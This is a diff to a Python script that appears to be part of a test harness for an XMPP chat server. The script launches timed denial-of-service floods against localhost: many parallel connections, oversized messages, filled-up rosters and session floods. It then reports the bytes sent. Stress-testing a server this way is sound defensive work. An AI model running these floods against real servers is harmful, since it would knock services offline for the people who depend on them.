@@ -1,7 +1,8 @@
 """What somebody can do who means harm, from a process of its own: `attacks.py NAME PORT CERTIFICATE SECONDS USER PASSWORD …`.
 
-Each attack goes on for SECONDS and ends by itself; it prints one line of JSON: how many bytes it sent, and over how many
-connections. Nothing is ever read but what is needed to come as far as the attack begins.
+An attack says "begun" when all of it are logged in that have to be, goes on for SECONDS from there, and ends by itself; then it
+prints one line of JSON: how many bytes it sent, and over how many connections. Nothing is ever read but what is needed to come as
+far as the attack begins.
 """
 
 import base64
@@ -57,15 +58,15 @@ class Attacker:
         self.hear(b"</iq>")
         return self
 
-    def flood(self, text, until):
-        """Says it again and again and reads nothing, until then or until the server has closed the connection."""
+    def flood(self, text):
+        """Says it again and again and reads nothing, until the attack ends or the server has closed the connection."""
         data = text.encode()
         data *= max(1, PIECE // len(data))
         self.socket.settimeout(0.25)
-        while time.monotonic() < until:
+        while time.monotonic() < self.attack.until:
             # What is left of a piece is not what the next begins with: the same bytes go on until all are taken.
             rest = memoryview(data)
-            while rest and time.monotonic() < until:
+            while rest and time.monotonic() < self.attack.until:
                 try:
                     rest = rest[self.socket.send(rest):]
                 except (TimeoutError, ssl.SSLWantWriteError):
@@ -77,12 +78,25 @@ class Attack:
     def __init__(self, name, port, certificate, seconds, users):
         self.port, self.users = port, users
         self.tls = ssl.create_default_context(cafile=certificate)
-        self.until = time.monotonic() + seconds
-        self.sent = self.connections = 0
+        self.seconds, self.lock, self.ready = seconds, threading.Lock(), set()
+        # Until it has begun: no longer than that takes.
+        self.until = time.monotonic() + 60
+        self.sent = self.connections = self.wanted = 0
         self.run = getattr(self, name.replace("-", "_"))
+
+    def begin(self, number):
+        """One of those that attack has come so far."""
+        with self.lock:
+            self.ready.add(number)
+            if len(self.ready) == self.wanted:
+                self.wanted = None
+                self.until = time.monotonic() + self.seconds
+                print("begun", flush=True)
 
     def parallel(self, count, work):
         """Many at once; one whose connection is closed comes again."""
+        self.wanted = count
+
         def again(number):
             while time.monotonic() < self.until:
                 try:
@@ -102,12 +116,14 @@ class Attack:
         header = HEADER.replace("<stream:stream ", "<stream:stream xmlns:s='urn:xmpp:sm:3' ")
 
         def work(number):
-            Attacker(self, header).flood(floods[number % len(floods)], self.until)
+            self.begin(number)
+            Attacker(self, header).flood(floods[number % len(floods)])
         self.parallel(60, work)
 
     def silent(self):
         """As many connections as one address may have, each with as much as a stranger may send and no more."""
         def work(number):
+            self.begin(number)
             attackers = []
             try:
                 for _ in range(20):
@@ -131,7 +147,8 @@ class Attack:
         def work(number):
             (name, password) = self.users[number % len(self.users)]
             attacker = Attacker(self).log_in(name, password, f"bomb{number}")
-            attacker.flood(bomb if number % 2 else lesser, self.until)
+            self.begin(number)
+            attacker.flood(bomb if number % 2 else lesser)
         self.parallel(4, work)
 
     def language(self):
@@ -142,7 +159,8 @@ class Attack:
 
         def work(number):
             attacker = Attacker(self).log_in(name, password, "lang", header)
-            attacker.flood(f"<message to='{receiver}@localhost' type='chat'><body>n</body></message>", self.until)
+            self.begin(number)
+            attacker.flood(f"<message to='{receiver}@localhost' type='chat'><body>n</body></message>")
         self.parallel(1, work)
 
     def sessions(self):
@@ -157,7 +175,8 @@ class Attack:
 
         def work(number):
             attacker = Attacker(self).log_in(name, password, f"s{number}")
-            attacker.flood(floods[number % len(floods)], self.until)
+            self.begin(number)
+            attacker.flood(floods[number % len(floods)])
         self.parallel(50, work)
 
     def rosters(self):
@@ -170,14 +189,15 @@ class Attack:
                 filler.say(f"<iq type='set' id='{number}'><query xmlns='jabber:iq:roster'>"
                            f"<item jid='c{number}@localhost' name='{'n' * 900}'>{groups}</item></query></iq>")
                 filler.hear(f"id='{number}'".encode())
-                if time.monotonic() > self.until - 3:
+                if time.monotonic() > self.until - 40:
                     break
         except OSError:
             pass
 
         def work(number):
             attacker = Attacker(self).log_in(name, password, f"s{number}")
-            attacker.flood("<iq type='get' id='1'><query xmlns='jabber:iq:roster'/></iq>", self.until)
+            self.begin(number)
+            attacker.flood("<iq type='get' id='1'><query xmlns='jabber:iq:roster'/></iq>")
         self.parallel(20, work)
 
 
